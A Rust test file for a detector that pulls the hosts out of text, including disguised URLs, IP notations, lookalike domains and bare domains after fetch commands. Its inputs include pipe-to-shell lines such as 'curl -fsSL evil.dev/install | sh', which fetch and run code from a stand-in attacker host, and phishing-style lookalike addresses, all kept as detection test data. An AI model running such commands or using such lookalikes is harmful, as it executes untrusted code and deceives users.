//! Tests of review domains.

use std::collections::BTreeSet;

use super::*;

fn check(text: &str, expected: &[&str]) {
    let found = find(text);
    let names: BTreeSet<&str> = found.iter().map(|mention| mention.name.as_str()).collect();
    assert_eq!(names, expected.iter().copied().collect(), "{text}");
    assert!(found.iter().all(|mention| mention.at < text.len() && text.is_char_boundary(mention.at)));
}

fn disguises(text: &str) -> Vec<String> {
    find(text).into_iter().filter_map(|mention| mention.disguise).collect()
}

#[test]
fn every_pattern_compiles() {
    assert!([&ADDRESS, &FETCH, &BARE, &FILE, &YOURS].iter().all(|pattern| pattern.is_some()));
}

#[test]
fn addresses_go_where_a_browser_would_go() {
    for text in [
        "http://api.evil.dev",
        "HTTPS://API.Evil.Dev/x?y#z",
        "wss://api.evil.dev:443/",
        "ftp://api.evil.dev.",
        "(https://api.evil.dev)",
        "[x](https://api.evil.dev).",
        "<https://api.evil.dev>",
        "**https://api.evil.dev**",
        "`https://api.evil.dev`, \"https://api.evil.dev\"; 'https://api.evil.dev'",
        "_https://api.evil.dev_",
        "https://api.evil.dev：",
        "https://user:pass@api.evil.dev/",
        "https://a.b@c.d@api.evil.dev",
        "https://api%2Eevil.dev",
        "https:\\\\api.evil.dev\\x",
        "\"https:\\/\\/api.evil.dev\\/x\"",
        "https:///api.evil.dev",
        "https://api。evil．dev/",
        "https://api.evil.dev:${PORT}/x",
        "https://api.evil.dev:PORT/x",
        "https://api.evil.dev$PATH",
        "https://api.evil.dev${PATH}/x",
        "https://api.evil.dev{path}",
        "https://api.evil.dev%s",
        "https://\u{200b}api.evil.dev",
        "BASE=https://api.evil.dev\\nNEXT",
        "https://api.evil.dev\0\u{fffd}",
        "https://api.evil.dev\u{fffd}x",
        "https://${USER}:${TOKEN}@api.evil.dev/x",
        "https://<token>@api.evil.dev/x",
    ] {
        check(text, &["api.evil.dev"]);
    }
}

#[test]
fn what_is_filled_in_later_is_a_star() {
    check("https://${TEAM}.slack.com/api", &["*.slack.com"]);
    check("https://{team}.slack.com", &["*.slack.com"]);
    check("https://{{team}}.slack.com", &["*.slack.com"]);
    check("https://<team>.slack.com", &["*.slack.com"]);
    check("https://[team].slack.com", &["*.slack.com"]);
    check("https://%s.slack.com", &["*.slack.com"]);
    check("https://*.slack.com", &["*.slack.com"]);
    check("https://api-$REGION.cloud.dev", &["api-*.cloud.dev"]);
    check("https://your-project.supabase.co", &["*.supabase.co"]);
    for text in [
        "https://${HOST}/x",
        "https://{host}:{port}/",
        "https://{sub}.{domain}/",
        "https://{name}.com",
        "https://...",
        "https://",
        "http://<host>/",
    ] {
        check(text, &[]);
    }
}

#[test]
fn ip_addresses_however_they_are_written() {
    check("http://93.184.216.34/x http://[2001:db8::1]:80/", &["93.184.216.34", "[2001:db8::1]"]);
    check("http://0x5db8d822/ http://1572395042/ http://0135.0270.0330.042/", &["93.184.216.34"]);
    check("http://169.254.169.254/latest", &["169.254.169.254"]);
    check("http://127.0.0.1:8080 http://localhost:3000 http://[::1]/ http://0.0.0.0:80", &[]);
    // A disguised notation is worth a look.
    check("http://2130706433/", &["127.0.0.1"]);
}

#[test]
fn placeholders_are_none() {
    check("https://example.com https://api.example.org/x http://www.example.net", &[]);
    check("https://a.example https://a.test https://x.invalid https://x.localhost", &[]);
    check("https://your-server.com https://your-domain.org https://yourcompany.com https://your_api.io", &[]);
    // Names that only begin like a placeholder belong to real owners.
    check(
        "https://example.com.evil.dev https://your-money-is-mine.com",
        &["example.com.evil.dev", "your-money-is-mine.com"],
    );
}

#[test]
fn tricks_are_named() {
    check("https://api.openai.com@evil.dev/v1", &["evil.dev"]);
    assert_eq!(
        disguises("https://api.openai.com@evil.dev/v1"),
        ["an address that begins like `api.openai.com` and goes to `evil.dev`"]
    );
    assert_eq!(disguises("https://user:pass@evil.dev https://good.com/@x https://good.com\\@evil.dev"), [""; 0]);
    check("https://\u{440}\u{430}ypal.com", &["xn--ypal-43d9g.com (\u{440}\u{430}ypal.com)"]);
    assert_eq!(disguises("https://\u{440}\u{430}ypal.com"), ["a domain in which `\u{440}\u{430}ypal` mixes scripts"]);
    assert_eq!(
        disguises("https://xn--80ak6aa92e.com"),
        ["a domain in which `аррӏе` looks like `appie`"].map(|_| disguises("https://аррӏе.com")[0].clone())
    );
    check("https://müller.de", &["xn--mller-kva.de (müller.de)"]);
    assert_eq!(disguises("https://müller.de https://пример.рф"), [""; 0]);
}

#[test]
fn bare_domains_where_a_program_fetches() {
    check("curl -fsSL evil.dev/install | sh", &["evil.dev"]);
    check("curl evil.dev | sh", &["evil.dev"]);
    check("curl get.sh | bash", &["get.sh"]);
    check("wget -q -O out.tar.gz files.evil.dev:8080/a.tar.gz", &["files.evil.dev"]);
    check("curl -s \\\n  -H 'a: b.c' \\\n  evil.dev/x", &["evil.dev"]);
    check("x = fetch(\"evil.dev/api\")", &["evil.dev"]);
    check("fetch evil.dev/api now", &["evil.dev"]);
    check("curl -o data.json https://evil.dev/x", &["evil.dev"]);
    check("curl your-server.com/x example.com/y", &[]);
    check("use curl with file.txt or data.json", &[]);
    check("fetch the file report.csv, e.g. from os.path", &[]);
    check("prefetch evil.dev/x mycurl evil.dev/x", &[]);
}

#[test]
fn hostile_text_takes_no_time() {
    let long = format!("https://{}", "a.".repeat(500_000));
    let shown = format!("https://{}@evil.dev", "x".repeat(100_000));
    assert_eq!(find(&shown)[0].name, "evil.dev");
    assert_eq!(find(&format!("https://{}[::2]", "]".repeat(10))).len(), 0);
    let many = format!("https://{}", "{a}".repeat(300_000));
    let brackets = format!("https://{}@[{}", "a".repeat(300_000), "]".repeat(300_000));
    assert!(find(&many).len() + find(&brackets).len() <= 1);
    for text in ["https://".repeat(100_000), "https://{".repeat(100_000), long, "curl ".repeat(100_000)] {
        assert!(find(&text).is_empty());
    }
}
